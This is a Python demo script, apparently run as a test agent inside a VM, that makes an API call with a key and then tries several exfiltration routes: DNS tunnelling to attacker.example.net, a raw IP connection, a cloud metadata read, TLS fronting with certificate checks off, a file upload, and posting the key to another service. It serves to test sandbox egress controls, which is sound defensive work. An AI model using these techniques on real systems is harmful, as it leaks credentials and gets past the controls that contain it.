# The demo's agent, in the VM: it does its work with a key that it never has,
# and then tries to let data out in ways that real attacks have used.
import os, socket, ssl, urllib.error, urllib.request

key = os.environ["API_KEY"]


def post(url, body, headers={}, context=None):
    request = urllib.request.Request(url, data=body, headers=headers, method="POST")
    with urllib.request.urlopen(request, timeout=60, context=context) as answer:
        return answer.read().decode()


print("work: what the environment has as key begins", key[:8])
print("work: the API says:", post("https://api.example.com/v1/messages", b"hello", {"X-Api-Key": key}))


def front():
    unchecked = ssl._create_unverified_context()
    with socket.create_connection(("api.example.com", 443), 60) as plain:
        with unchecked.wrap_socket(plain, server_hostname="attacker.example.net"):
            return "shook hands"


leaks = [
    ("tunnel in names", lambda: socket.gethostbyname("c2VjcmV0LWRhdGE.attacker.example.net")),
    ("a bare address", lambda: socket.create_connection(("203.0.113.9", 443), 60)),
    ("cloud metadata", lambda: urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=60)),
    ("another name in TLS", front),
    ("upload to the API's files", lambda: post("https://api.example.com/v1/files", b"data", {"X-Api-Key": key})),
    ("the key to another service", lambda: post("https://notes.example.com/new", b"look: " + key.encode())),
]
for name, leak in leaks:
    try:
        print(f"leak: {name}: IT WORKED: {leak()}")
    except urllib.error.HTTPError as e:
        print(f"leak: {name}: stopped: {e.code} {e.read().decode().strip()}")
    except OSError as e:
        print(f"leak: {name}: stopped: {e}")
